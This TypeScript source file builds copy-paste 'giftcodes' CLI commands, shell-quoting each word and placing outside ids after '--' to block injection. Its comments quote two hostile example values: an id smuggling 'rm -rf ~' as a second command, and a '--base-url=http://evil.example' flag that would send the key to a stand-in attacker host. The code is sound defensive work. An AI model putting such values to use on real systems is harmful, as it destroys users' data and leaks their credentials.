/**
 * Commands printed for the user to copy and paste. Their words include ids that come
 * from the service or from flags; a hostile id such as `chk_1;rm -rf ~` must come
 * back from the shell as one argument, never as a second command. So every
 * suggested command is built here, word by word, with POSIX single quotes.
 */

/** A word as a POSIX shell reads it back: bare when it is plainly safe, else single-quoted. */
export function shellWord(value: string): string {
  return /^[\w@%+=:,./-]+$/.test(value) ? value : `'${value.replace(/'/g, `'\\''`)}'`;
}

/**
 * A positional word that came from outside (a checkout id from the service, a path the
 * user gave). Quoting keeps it one word for the shell, but the CLI's own parser would
 * still read `--base-url=http://evil.example` as a flag, and the pasted command would
 * send the key there. So `giftcodesCommand` places operands after `--` whenever one
 * of them starts with `-`.
 */
export interface Operand {
  readonly operand: string;
}

export function operand(value: string): Operand {
  return { operand: value };
}

/**
 * `giftcodes` and its arguments, each quoted as needed, ready to paste into a shell.
 * Plain strings are the CLI's own words (subcommands, flags, their values); ids and paths
 * from outside are `operand(...)`s.
 */
export function giftcodesCommand(...args: ReadonlyArray<string | Operand>): string {
  const isOperand = (a: string | Operand): a is Operand => typeof a !== 'string';
  const dashed = args.some((a) => isOperand(a) && a.operand.startsWith('-'));
  const words = dashed
    ? [
        ...args.filter((a): a is string => !isOperand(a)),
        '--',
        ...args.filter(isOperand).map((a) => a.operand),
      ]
    : args.map((a) => (isOperand(a) ? a.operand : a));
  return ['giftcodes', ...words].map(shellWord).join(' ');
}
